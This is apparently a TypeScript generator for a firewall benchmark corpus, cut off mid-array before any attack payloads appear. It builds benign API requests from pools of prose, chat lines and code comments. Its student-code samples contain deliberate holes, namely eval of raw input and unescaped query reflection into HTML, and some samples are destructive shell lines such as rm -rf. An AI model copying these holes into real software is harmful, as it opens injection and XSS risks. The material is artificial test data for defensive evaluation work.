/**
 * Held-out corpus #5 for the WAF "API profile" (deterministic, written blind).
 *
 * Run `node bench/waf/corpus/heldout5.ts`: it writes `clean-heldout5.json` (ids `h5c…`) and
 * `attacks-heldout5.json` (ids `h5a…`) next to this file. A seeded mulberry32 PRNG drives every choice,
 * so the output is byte-identical on every run (no clock, no Math.random).
 *
 * Written blind: the author read only the `CorpusRequest` type of generate.ts, none of the WAF sources, its
 * docs, the measuring script or the other corpora, and never ran the WAF on these samples. No sample was
 * edited to pass or fail anything.
 *
 * Domains: HR/recruiting (candidates, CVs, interview notes), travel booking, banking/payments, logistics,
 * an LMS (students submit code, ask questions), a game's chat and guild API, a data-analytics product
 * (saved SQL queries, dashboards), a DevOps incident tool (postmortems, logs, commands), a headless CMS and
 * an issue tracker.
 *
 * Clean kinds: rest-read, rest-write, jsonapi, graphql, cms-html, issue-comment, prose, form (urlencoded
 * and multipart), merge-patch, json-patch, ndjson, webhook.
 *
 * Attack families: sql, nosql, template, command, path-traversal, ssrf, prototype-pollution, log4shell,
 * xss. Techniques: plain, nested, key, array, unicode-escape, json-in-string, base64, graphql-variable,
 * double-encoded, query-param, header, form, multipart, json-patch, merge-patch.
 *
 * Exclude fields ({@link HELDOUT5_EXCLUDE_FIELDS}): the code fields a user of these APIs would list —
 * LMS submissions (`body.code`, `body.files[].content`, GraphQL `body.variables.input.code`) and the
 * analytics product's saved queries (`body.sql`). Clean requests put real code there; no attack uses them.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads and sample code are literal text, not templates
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** Fields a user would declare as code fields for these APIs; attacks never use them. */
export const HELDOUT5_EXCLUDE_FIELDS: string[] = [
  'body.code',
  'body.files[].content',
  'body.variables.input.code',
  'body.sql',
];

type Draft = Omit<CorpusRequest, 'id'>;
type Json = unknown;

/** mulberry32 seeded PRNG. */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x4a5e0005);

function pick<T>(xs: readonly T[]): T {
  const x = xs[Math.floor(rnd() * xs.length)];
  if (x === undefined) throw new Error('empty pool');
  return x;
}

function at<T>(xs: readonly T[], i: number): T {
  const x = xs[i % xs.length];
  if (x === undefined) throw new Error('empty pool');
  return x;
}

function int(lo: number, hi: number): number {
  return lo + Math.floor(rnd() * (hi - lo + 1));
}

function chars(n: number, alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789'): string {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rnd() * alphabet.length)];
  return s;
}

function hex(n: number): string {
  return chars(n, '0123456789abcdef');
}

function uuid(): string {
  return `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
}

function pad(n: number, w = 2): string {
  return String(n).padStart(w, '0');
}

function isoDate(): string {
  return `${pick([2024, 2025, 2026])}-${pad(int(1, 12))}-${pad(int(1, 28))}`;
}

function isoTime(): string {
  return `${isoDate()}T${pad(int(0, 23))}:${pad(int(0, 59))}:${pad(int(0, 59))}Z`;
}

function b64(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64');
}

function b64url(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64url');
}

function jwt(sub: string): string {
  const iat = 1735000000 + int(0, 40000000);
  const head = b64url(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: hex(16) }));
  const payload = b64url(
    JSON.stringify({ sub, iat, exp: iat + 3600, scope: pick(['read write', 'api', 'openid profile']) }),
  );
  return `${head}.${payload}.${chars(86, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_')}`;
}

/** Percent-encode every byte except RFC 3986 unreserved characters. */
function pct(s: string): string {
  let out = '';
  for (const b of Buffer.from(s, 'utf8')) {
    const c = String.fromCharCode(b);
    out += /[A-Za-z0-9\-_.~]/.test(c) ? c : `%${b.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** Query string as browsers/fetch (encodeURIComponent) or as form serialisers (URLSearchParams) build it. */
function qs(params: ReadonlyArray<readonly [string, string]>, style: 'uri' | 'form' = 'uri'): string {
  if (style === 'form')
    return new URLSearchParams(params.map(([k, v]): [string, string] => [k, v])).toString();
  return params.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&');
}

function form(params: ReadonlyArray<readonly [string, string]>): string {
  return new URLSearchParams(params.map(([k, v]): [string, string] => [k, v])).toString();
}

interface Part {
  readonly name: string;
  readonly value: string;
  readonly filename?: string;
  readonly type?: string;
}

function multipart(parts: readonly Part[]): { body: string; ct: string } {
  const boundary = pick([
    `----WebKitFormBoundary${chars(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}`,
    `----geckoformboundary${hex(30)}`,
    `--------------------------${chars(24, '0123456789')}`,
    `${hex(32)}`,
  ]);
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\n`;
    body += `Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}\r\n`;
    if (p.type) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.value}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { body, ct: `multipart/form-data; boundary=${boundary}` };
}

// ---------------------------------------------------------------------------------------------------------
// Clients
// ---------------------------------------------------------------------------------------------------------

const BROWSER_UA = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36',
];
const APP_UA = [
  'okhttp/4.12.0',
  'Wayfarer/5.2.1 (iPhone; iOS 17.4.1; Scale/3.00)',
  'Alamofire/5.9.1',
  'GuildHall/3.14.0 (Android 13; SM-S911B)',
  'Dart/3.3 (dart:io)',
  'Ktor client',
  'CFNetwork/1494.0.7 Darwin/23.4.0',
];
const SERVER_UA = [
  'axios/1.7.2',
  'python-requests/2.32.3',
  'Go-http-client/2.0',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'undici',
  'Apache-HttpClient/4.5.14 (Java/17.0.10)',
  'RestSharp/110.2.0.0',
  'Faraday v2.9.0',
];
const CLI_UA = ['curl/8.5.0', 'PostmanRuntime/7.39.0', 'HTTPie/3.2.2', 'insomnia/9.2.0'];

type ClientKind = 'browser' | 'app' | 'server' | 'cli';

interface Client {
  readonly ua: string;
  readonly headers: Record<string, string>;
}

function client(kind: ClientKind, sub = `usr_${chars(10)}`, auth: 'jwt' | 'key' | 'none' = 'jwt'): Client {
  const ua = pick(
    kind === 'browser' ? BROWSER_UA : kind === 'app' ? APP_UA : kind === 'server' ? SERVER_UA : CLI_UA,
  );
  const headers: Record<string, string> = {
    accept:
      kind === 'browser'
        ? pick(['application/json, text/plain, */*', 'application/json', '*/*'])
        : pick(['application/json', '*/*']),
  };
  if (kind === 'browser') {
    headers['accept-language'] = pick([
      'en-US,en;q=0.9',
      'fr-FR,fr;q=0.9,en;q=0.8',
      'de-DE,de;q=0.9',
      'ja,en-US;q=0.8',
      'ar-SA,ar;q=0.9,en;q=0.7',
      'es-ES,es;q=0.9',
    ]);
    headers['accept-encoding'] = 'gzip, deflate, br';
  } else if (kind === 'cli') {
    headers['accept-encoding'] = 'gzip, deflate';
  }
  if (auth === 'jwt') headers.authorization = `Bearer ${jwt(sub)}`;
  else if (auth === 'key')
    headers.authorization = `Bearer ${pick(['sk_live_', 'gh_', 'pat_', 'ak_'])}${chars(32, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}`;
  return { ua, headers };
}

function anyClient(): Client {
  return client(pick<ClientKind>(['browser', 'browser', 'app', 'server', 'cli']));
}

function build(
  kind: string,
  method: string,
  host: string,
  path: string,
  body: string,
  contentType: string | null,
  c: Client,
  extra: Record<string, string> = {},
): Draft {
  const headers: Record<string, string> = { host, 'user-agent': c.ua, ...c.headers };
  if (contentType !== null) {
    headers['content-type'] = contentType;
    headers['content-length'] = String(Buffer.byteLength(body, 'utf8'));
  }
  if (c.ua.startsWith('Mozilla') && method !== 'GET')
    headers.origin = `https://${host.replace(/^api\./, 'app.')}`;
  Object.assign(headers, extra);
  return { kind, method, path, headers, body };
}

function jsonReq(
  kind: string,
  method: string,
  host: string,
  path: string,
  value: Json,
  c: Client = anyClient(),
  ct = 'application/json',
  extra: Record<string, string> = {},
): Draft {
  const pretty = c.ua.startsWith('python') || c.ua.startsWith('curl') ? rnd() < 0.3 : false;
  const body = pretty ? JSON.stringify(value, null, 2) : JSON.stringify(value);
  return build(kind, method, host, path, body, ct, c, extra);
}

function getReq(
  kind: string,
  host: string,
  path: string,
  c: Client = anyClient(),
  extra: Record<string, string> = {},
): Draft {
  return build(kind, 'GET', host, path, '', null, c, extra);
}

const H = {
  hr: 'api.talentloop.io',
  travel: 'api.wayfarer.travel',
  bank: 'api.northbank.example',
  logistics: 'api.parcelpath.com',
  lms: 'api.learnhub.edu',
  game: 'api.guildhall.gg',
  analytics: 'api.querylane.io',
  devops: 'api.pagewatch.dev',
  cms: 'cms.fieldnotes.media',
  issues: 'api.forgehub.dev',
} as const;

// ---------------------------------------------------------------------------------------------------------
// Pools
// ---------------------------------------------------------------------------------------------------------

const NAMES = [
  "Siobhán O'Connor",
  'José Álvarez-Núñez',
  'Zoë van den Berg',
  '田中 陽子',
  '李伟',
  'محمد العلي',
  'Ngozi Okafor-Adeyemi',
  'Łukasz Wróbel',
  "Ana-María O'Neill",
  'Bjørn Ødegård',
  'Priya Raghunathan',
  'Nguyễn Thị Minh Khai',
  "Renée D'Souza",
  '김민준',
  'Екатерина Смирнова',
  'Tomás Ó Súilleabháin',
  'Fatima Zahra El Amrani',
  'Chloé Lefèvre',
  "Marcus O'Brien Jr.",
  'Jürgen Müller',
  'Aoife Ní Bhriain',
  'Oluwaseun Bakare',
  'Håkon Løvås',
  'Sakura Yamamoto 🌸',
  'Dmitri Volkov',
  'Yasmin Haddad',
];

const CITIES = [
  'Lisbon',
  'Kraków',
  'Reykjavík',
  'São Paulo',
  'Zürich',
  'Québec City',
  'Kyoto',
  'Marrakech',
  'Cork',
  'Dubai',
  'Seoul',
  'Oaxaca',
  'Tromsø',
  'Chiang Mai',
];
const AIRPORTS = [
  'LIS',
  'KRK',
  'KEF',
  'GRU',
  'ZRH',
  'YQB',
  'KIX',
  'RAK',
  'ORK',
  'DXB',
  'ICN',
  'OAX',
  'TOS',
  'CNX',
  'JFK',
  'LHR',
  'CDG',
  'AMS',
];

const SEARCH_TERMS = [
  'select committee report',
  "O'Brien",
  'drop shipping suppliers',
  'sleep apnea',
  'union station to jfk',
  'café crème',
  '東京 ホテル 駅近',
  'c++ pointers',
  'how to center a <div>',
  '50% off',
  'tom & jerry',
  'kill bill vol 2',
  "rock 'n' roll",
  'pandas select rows where',
  'order by date desc',
  'delete account',
  'where is my parcel',
  'insert sim card',
  'script writer remote',
  'table for 4 tonight',
  'update iban',
  'exec assistant',
  'cat friendly hotels',
  'ping pong table',
  'join vs union sql',
  'wait time refund',
  'شقة في دبي',
  'résumé template',
  'data engineer (m/w/d)',
  'is 1/2 day leave allowed?',
  'Frühbucher Rabatt',
  'guild "Night Owls"',
];

const PROSE = [
  'The select committee will meet on Thursday; please union the two agenda drafts before then.',
  'I need to sleep 8 hours before the flight, so please book the 10:40 departure instead of the 6:15 one.',
  'Drop the table from the quarterly report and order by revenue, not by region.',
  'Our exec team wants to update the policy where remote staff are concerned.',
  'My cat knocked over the router again, had to kill the power and wait 30 seconds before it came back.',
  "Can you delete my old address from the account and insert the new one: 12 O'Connell St, Apt 4B?",
  'Select all that apply: drop-off, pick-up, or both? Nobody on the call could answer that.',
  "The script for the onboarding video needs an alert at 2:15 where we show the 'Update' button.",
  'Ping me when you are back from lunch, or curl up with the contract and read clause 7 again.',
  "He said 'or else' and left the meeting. HR please note: from 3 pm onward he was not reachable.",
  'Having lunch at 1; wait for me before you order, and pick the table by the window if you can.',
  'The union rep asked whether overtime from Saturday counts. Select committee meets again in May.',
  'I tried SELECT * FROM motivation WHERE monday = true and got an empty result set 😅',
  'Where do I insert the SIM card? The manual says to slide the tray from the left or right; which one?',
  "Please cancel order #48213 and refund to the original card; it's been 3 weeks & still 'processing'.",
  'Five stars. The drop-in rate was fair, the staff were lovely, and the wait was only ten minutes.',
  'Ordered the "select" tasting menu, a union of sushi and tapas. Sounds odd, works brilliantly.',
  'Can someone update the rota? I swapped Tuesday with Sam, and Sam swapped Friday with Alex, so where does that leave me?',
  'The exec summary is on page 2; drop me a line if the figures from March and April do not add up.',
  'Reminder: fire drill at 11. Leave by the east stairs, do not wait for the lift, and do not kill time in the lobby.',
  'Sleep 8 hours, drink water, and do not cat-nap after 4 pm. That is what the doctor said.',
  "I'd like to order by phone; your checkout keeps asking me to select a delivery slot and then it resets.",
  'We had to kill the deployment, roll back, and wait for the cache to drain. Customers saw errors for 12 minutes.',
  'Where and when is the offsite? Having it on a Friday or a Monday makes no difference to me.',
  'Please insert a page break before the appendix and delete the empty table at the end.',
  'The ping from Lisbon to Frankfurt is fine, but from São Paulo it jumps to 240 ms around 9 pm.',
  "Union Square hotel was noisy, but the room had blackout curtains so we could sleep in. I'd go back.",
  'Tell Maria the script reading is moved to 4 pm and the table read is cancelled.',
  'I select the payee, type the amount, press confirm, and then nothing happens. Tried 3 times.',
  'Alert: the 07:05 to Kraków is delayed. Rebook or wait? I have a connection at 10:30.',
  'Exec order of operations for Monday: update the roster, drop last week’s leaderboard, then announce the raid.',
  'From the candidate: "I was the DBA who had to drop and recreate the index on a 2 TB table without downtime."',
  'Our team lead keeps saying "where there’s a will there’s a way" — where is the budget, though?',
  'Not sure whether to order the 1 TB or 2 TB plan; having both on the invoice was a mistake.',
  'Dear support, the update broke the export. It now drops every row where the date is empty.',
];

const PROSE_INTL = [
  'مرحباً، أريد تغيير موعد الرحلة إلى يوم الخميس من فضلك. شكراً جزيلاً!',
  '予約の変更をお願いします。select プランから premium プランへ変更したいです。',
  '请帮我取消这个订单，谢谢！我已经等了三个星期了。',
  '안녕하세요, 환불 요청드립니다. 주문 번호는 KR-20931 입니다.',
  'Bonjour, je voudrais supprimer mon ancienne adresse et ajouter la nouvelle : 3 rue de l’Église, 75004 Paris.',
  'Hallo! Können Sie die Buchung für Zimmer 12 auf Samstag verschieben? Danke & schöne Grüße.',
  'Olá, o pagamento foi debitado duas vezes. Podem verificar? Obrigado 🙏',
  'Здравствуйте! Не могу обновить номер телефона в профиле, пишет «ошибка 500».',
  '¿Dónde puedo descargar la factura? Seleccioné «todas» pero la tabla sale vacía.',
  'gg wp 🎉🔥 see you all at the raid tomorrow — 21:00 CET sharp',
];

const CHAT = [
  'anyone up for a raid tonight? need tank + 2 heals, we pull at 9pm EST',
  'gg ez, kill count 42 lol',
  "who's exec'ing the script for phase 2? last time we wiped at 3%",
  'sleep 5 mins then pull, brb coffee ☕',
  'drop table? nah the loot table is bugged, dropped 3 of the same ring',
  'select your class before the timer runs out or the game picks for you',
  'wait for the cooldown, then ping me',
  'union of guilds when? Night Owls + Ironforge 4ever',
  '/w Kira meet at the bridge, bring pots',
  'insert coin to continue 🪙',
  'kill the adds first, boss after',
  'where r u',
  'cat pic or it didn’t happen 🐱',
  'order by dps: Rin, Kai, me, then whoever',
  "new patch notes: 'alert' debuff removed, update your macros",
  '<3 thx for the carry',
  'brb, mom says dinner',
  'LFG M+ 15, drop a whisper',
  'wtf why did the server kick everyone >:(',
];

const HR_NOTES = [
  'Strong SQL: explained when to use UNION ALL instead of UNION and why ORDER BY inside a subquery is ignored.',
  'Asked about gaps in CV (2019–2020): caring for a parent. No concerns. Culture add; exec presence is good.',
  'Take-home: she wrote `SELECT dept, AVG(salary) FROM staff GROUP BY dept HAVING COUNT(*) > 5` and explained it well.',
  'Reference check with Seán O\'Leary (former manager): "reliable, would hire again".',
  'Candidate wants to relocate from Kraków; needs visa sponsorship. Salary band: select L4.',
  'Panel feedback: 3 × hire, 1 × no hire (concern: could not explain how to kill a hung process safely).',
  'Relocation package: drop the temporary housing, keep the flight. Update offer letter before Friday.',
  'Interview notes — system design: queue, retry with backoff, wait/ping health checks, delete-on-ack.',
  'Notice period 3 months; can negotiate to 6 weeks. Prefers hybrid (2 days in office).',
  'Portfolio includes a bash script that runs `cat access.log | grep 500 | wc -l` nightly. Practical mindset.',
];

const MINUTES = [
  'Minutes 14 May\nPresent: AB, CD, EF (apologies: GH)\n1. Budget: drop the print line, move funds to events.\n2. Select committee nominations due Friday.\n3. AOB: update the wiki where the old rota is.\nActions: CD to insert the new dates; EF to delete the stale table.',
  'Standup 09:30 — blockers: waiting on legal; exec review moved; ping infra about the union of the two VPCs.',
  'Retro: what went well — alerting; what did not — we had to kill the batch job twice; try — sleep less at 3 am 😴',
  'Board meeting: motion to select the new auditor carried (6 for, 1 against). Drop item 4 from the agenda.',
  'Weekly sync\n- Order by priority: billing bugs, then onboarding\n- Having two on-call people is not enough\n- Where do we store the runbooks? Decision: in the incident tool',
];

const TICKETS = [
  'Hi, I was charged twice for booking WF-88231. Please refund one of them. Thanks, Marta',
  'The parcel tracking page says "delivered" but nothing arrived. Neighbours at No. 7 & No. 9 have nothing either.',
  'Cannot log in after the update; the app shows "session expired" and then a blank screen. iPhone 13, iOS 17.5.',
  'Please update my IBAN: DE89 3704 0044 0532 0130 00. The old account is being closed on 31/05.',
  "My son's account was banned for 'chat abuse' but he only wrote 'kill the boss'. Please review.",
  'The export to CSV drops the last column when the name has a comma, e.g. "Smith, John".',
  'Your chatbot told me to "select option 3 or call us" but there is no option 3.',
  "Hotel wasn't as advertised: the 'sea view' was of a car park. I'd like a partial refund or a room change.",
  'Shipment PP-4410-XZ has been stuck at "customs — wait" for 9 days. Is anything needed from me?',
  'Can I insert a second driver on the car rental after booking? Their licence is from Québec.',
];

const REVIEWS = [
  'Great stay!! Breakfast was 10/10, the staff let us check in early. Only downside: thin walls, hard to sleep.',
  "Meh. The 'deluxe' room is a standard room with a kettle. Would not select again.",
  'Best ramen in town 🍜 — order the tantanmen, thank me later.',
  'The course is good but the SQL module assumes you know JOIN vs UNION already. Add a primer please.',
  'Shipping took forever (3 weeks) and the box arrived crushed; contents fine though. 3/5',
  'Five stars for the drop-off service, zero for the app that keeps logging me out.',
];

const CODE_COMMENTS = [
  'Repro:\n\n```bash\ncurl -sS -X POST https://api.example.com/v1/orders \\\n  -H \'Content-Type: application/json\' \\\n  -d \'{"sku":"A-1","qty":2}\' | jq .\n```\n\nReturns 500 instead of 201.',
  'Try:\n```sh\nrm -rf node_modules package-lock.json && npm install\nkill -9 $(lsof -t -i:3000) || true\nnpm run dev\n```',
  'The slow one is this:\n\n```sql\nSELECT u.id, u.email\nFROM users u\nLEFT JOIN orders o ON o.user_id = u.id\nWHERE o.id IS NULL\nORDER BY u.created_at DESC\nLIMIT 50;\n```\n\nAdding an index on `orders(user_id)` took it from 4s to 30ms.',
  'Running `DELETE FROM sessions WHERE expires_at < now()` takes 40s on prod, we should batch it.',
  "```sql\nSELECT id, 'a' AS src FROM table_a\nUNION ALL\nSELECT id, 'b' FROM table_b;\n```",
  'Stack trace from staging:\n\n```\nTraceback (most recent call last):\n  File "/app/worker.py", line 88, in run\n    result = subprocess.run(["pg_dump", "-Fc", db_url], check=True)\n  File "/usr/lib/python3.11/subprocess.py", line 571, in run\n    raise CalledProcessError(retcode, process.args)\nsubprocess.CalledProcessError: Command \'[\'pg_dump\', \'-Fc\', \'postgres://…\']\' returned non-zero exit status 1.\n```',
  'I think the XSS report is because of this:\n\n```jsx\n<div dangerouslySetInnerHTML={{ __html: post.body }} />\n```\n\nWe should run it through DOMPurify first, otherwise a `<script>` in the post body gets rendered.',
  '```go\nfunc (s *Server) handle(w http.ResponseWriter, r *http.Request) {\n\tctx, cancel := context.WithTimeout(r.Context(), 5*time.Second)\n\tdefer cancel()\n\trows, err := s.db.QueryContext(ctx, "SELECT id, name FROM items WHERE owner = $1", r.URL.Query().Get("owner"))\n\tif err != nil {\n\t\thttp.Error(w, err.Error(), 500)\n\t\treturn\n\t}\n\tdefer rows.Close()\n}\n```',
  'Here is the manifest that works for me:\n\n```yaml\napiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\nspec:\n  replicas: 3\n  template:\n    spec:\n      containers:\n        - name: api\n          image: ghcr.io/acme/api:1.4.2\n          command: ["/bin/sh", "-c", "node dist/server.js"]\n          env:\n            - name: DATABASE_URL\n              valueFrom:\n                secretKeyRef: { name: db, key: url }\n```',
  '```dockerfile\nFROM node:20-alpine\nWORKDIR /app\nCOPY package*.json ./\nRUN apk add --no-cache curl && npm ci --omit=dev\nCOPY . .\nHEALTHCHECK CMD curl -f http://localhost:8080/health || exit 1\nCMD ["node", "server.js"]\n```',
  'On Windows this does the trick:\n\n```powershell\nGet-Process | Where-Object { $_.CPU -gt 100 } | Stop-Process -Force\nInvoke-WebRequest -Uri https://example.com/tool.zip -OutFile C:\\temp\\tool.zip\nExpand-Archive C:\\temp\\tool.zip -DestinationPath C:\\tools\n```',
  'Logs around the incident:\n\n```\n2025-03-11T10:22:01.114Z ERROR [db] query failed: syntax error at or near "WHERE" (SQLSTATE 42601)\n2025-03-11T10:22:01.120Z WARN  [http] GET /api/items?sort=name 500 31ms\n2025-03-11T10:22:04.002Z INFO  [pool] reconnecting (attempt 2/5)\n```',
  'Same as #412 I think. `cat /etc/os-release` says Debian 12, `uname -r` is 6.1.0-18-amd64.',
  '```python\nimport os, json\n\nwith open(os.path.join(BASE_DIR, "../config/settings.json")) as fh:\n    cfg = json.load(fh)\nprint(cfg["database"]["host"])\n```',
  '```\ngit fetch origin\ngit rebase -i HEAD~3\ngit push --force-with-lease origin feature/payments\n```',
  'The template is just Jinja:\n\n```jinja\n{% for item in items %}\n  <li>{{ item.name | e }} — {{ item.price | round(2) }}</li>\n{% endfor %}\n```',
  "PHP side is escaping correctly: `<?php echo htmlspecialchars($_GET['q'], ENT_QUOTES); ?>`, so I doubt the injection report.",
  '```suggestion\n    const url = new URL(`/api/search?${new URLSearchParams({ q: query })}`, window.location.origin);\n```',
  '```rust\nfn main() -> Result<(), Box<dyn std::error::Error>> {\n    let body = reqwest::blocking::get("https://httpbin.org/ip")?.text()?;\n    println!("{body:#?}");\n    Ok(())\n}\n```',
  'Java trace:\n```\njava.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.acme.orders.OrderService.validate(OrderService.java:142)\n\tat com.acme.orders.OrderController.create(OrderController.java:58)\n\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:885)\n```',
  'nginx config that fixed it:\n\n```nginx\nlocation /api/ {\n    proxy_pass http://upstream_api;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    proxy_read_timeout 60s;\n}\n```',
  "`UPDATE accounts SET status = 'closed' WHERE last_login < now() - interval '2 years'` — are we sure that is what product wants? It also hits dormant business accounts.",
  'LGTM 👍 small nit: `rm -rf "$TMPDIR"/*` should quote the glob differently, otherwise an empty `TMPDIR` means `rm -rf /*`.',
  "```bash\nfor f in logs/*.gz; do\n  zcat \"$f\" | grep -E 'status=(500|502)' | awk '{print $7}' | sort | uniq -c | sort -rn | head\ndone\n```",
  '```csharp\nusing var conn = new SqlConnection(cs);\nvar cmd = new SqlCommand("SELECT TOP 10 * FROM Orders WHERE CustomerId = @id", conn);\ncmd.Parameters.AddWithValue("@id", customerId);\n```',
  'ERB partial that renders it: `<%= link_to @user.name, user_path(@user) %>` — Rails escapes by default.',
  '```makefile\nbuild:\n\tgo build -o bin/api ./cmd/api\n\ntest:\n\tgo test ./... -race -count=1\n```',
  "Minimal repro in the browser console:\n```js\nfetch('/api/v1/me', { credentials: 'include' })\n  .then((r) => r.json())\n  .then(console.log)\n  .catch((e) => alert(e.message));\n```",
  'Postgres says: `ERROR: duplicate key value violates unique constraint "users_email_key"` when two sign-ups race. We need `INSERT ... ON CONFLICT (email) DO NOTHING`.',
  '```\n$ ping -c 3 db.internal\nPING db.internal (10.0.3.12) 56(84) bytes of data.\n64 bytes from 10.0.3.12: icmp_seq=1 ttl=64 time=0.412 ms\n--- db.internal ping statistics ---\n3 packets transmitted, 3 received, 0% packet loss\n```',
  'The handlebars helper `{{#each orders}}{{this.id}}{{/each}}` is what renders the table.',
  'Path is `../../shared/config/base.json` relative to the package, which breaks when bundled.',
  '```ts\nexport async function retry<T>(fn: () => Promise<T>, n = 3): Promise<T> {\n  for (let i = 0; ; i++) {\n    try { return await fn(); } catch (e) { if (i >= n) throw e; await sleep(2 ** i * 100); }\n  }\n}\n```',
];

const STUDENT_CODE = [
  'import os\nimport sys\n\ndef main():\n    name = input("Name: ")\n    os.system("clear")\n    print(f"Hello, {name}!")\n\nif __name__ == "__main__":\n    sys.exit(main())\n',
  'def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\n\nprint([fib(i) for i in range(10)])\n',
  '#include <stdio.h>\n#include <stdlib.h>\n\nint main(void) {\n    char buf[64];\n    if (fgets(buf, sizeof buf, stdin) == NULL) return 1;\n    printf("%s", buf);\n    system("pause");\n    return 0;\n}\n',
  "SELECT s.name, AVG(g.score) AS avg_score\nFROM students s\nJOIN grades g ON g.student_id = s.id\nWHERE g.term = '2025S'\nGROUP BY s.name\nHAVING AVG(g.score) > 70\nORDER BY avg_score DESC;\n",
  'const express = require("express");\nconst app = express();\napp.get("/", (req, res) => res.send("<h1>Hello " + req.query.name + "</h1>"));\napp.listen(3000);\n',
  'import subprocess\nout = subprocess.check_output(["ls", "-la", "/tmp"]).decode()\nfor line in out.splitlines():\n    print(line)\n',
  'public class Main {\n    public static void main(String[] args) throws Exception {\n        Runtime.getRuntime().exec(new String[] {"echo", "hi"}).waitFor();\n        System.out.println("${done}");\n    }\n}\n',
  '#!/bin/bash\nset -euo pipefail\nfor f in "$@"; do\n  wc -l "$f"\ndone | sort -n | tail -1\n',
  'x = eval(input("expr> "))\nprint(x)\n',
  'CREATE TABLE enrolments (\n  id SERIAL PRIMARY KEY,\n  student_id INT REFERENCES students(id) ON DELETE CASCADE\n);\nINSERT INTO enrolments (student_id) VALUES (1), (2);\nDROP TABLE IF EXISTS tmp_import;\n',
];

const SAVED_SQL = [
  "SELECT date_trunc('week', created_at) AS week, count(*) AS signups\nFROM users\nWHERE created_at >= now() - interval '90 days'\nGROUP BY 1\nORDER BY 1",
  "SELECT country, SUM(amount) AS revenue FROM payments WHERE status = 'captured' GROUP BY country HAVING SUM(amount) > 1000 ORDER BY revenue DESC LIMIT 20",
  "SELECT a.campaign, a.clicks, b.conversions\nFROM ads a\nLEFT JOIN conversions b USING (campaign)\nUNION ALL\nSELECT '(total)', SUM(clicks), SUM(conversions) FROM ads JOIN conversions USING (campaign)",
  "SELECT * FROM events WHERE name IN ('checkout_started','checkout_completed') AND ts BETWEEN {{start_date}} AND {{end_date}}",
  'WITH ranked AS (\n  SELECT user_id, score, ROW_NUMBER() OVER (PARTITION BY guild_id ORDER BY score DESC) AS rn\n  FROM leaderboard\n)\nSELECT * FROM ranked WHERE rn <= 3',
  "SELECT CASE WHEN sleep_hours < 6 THEN 'short' ELSE 'ok' END AS bucket, count(*) FROM survey GROUP BY 1",
];

const HTML_PARAS = [
  '<p>Our <strong>spring menu</strong> is here &mdash; think wild garlic, <em>asparagus</em> and rhubarb.</p>',
  '<p style="text-align: center;"><span style="color: #e03e2d; font-size: 18pt;">Limited offer: 20% off until Sunday!</span></p>',
  '<p class="ql-align-justify">Nous avons mis à jour nos <a href="https://fieldnotes.media/cgv" target="_blank" rel="noopener noreferrer">conditions générales</a>.</p>',
  '<p>Read the full interview with <a href="https://fieldnotes.media/people/siobhan-oconnor">Siobhán O&#39;Connor</a> below.</p>',
  '<p>&nbsp;</p>',
  '<h2 id="why-it-matters">Why it matters</h2>',
  '<blockquote><p>&ldquo;Select your battles, then drop everything else.&rdquo; &mdash; a wise editor</p></blockquote>',
  '<ul><li>Pick a <code>SELECT</code> statement</li><li>Add <code>ORDER BY</code></li><li>Run it &amp; check the plan</li></ul>',
  '<p>Sleep 8 hours, drink water, and update your calendar <span style="background-color: rgb(255, 255, 0);">before Monday</span>.</p>',
  '<pre><code class="language-html">&lt;script src="/widget.js"&gt;&lt;/script&gt;\n&lt;div id="app"&gt;&lt;/div&gt;</code></pre>',
  '<p dir="rtl" lang="ar">نرحب بكم في العدد الجديد من مجلتنا.</p>',
  '<p>東京の<strong>おすすめ</strong>レストラン10選 🍣</p>',
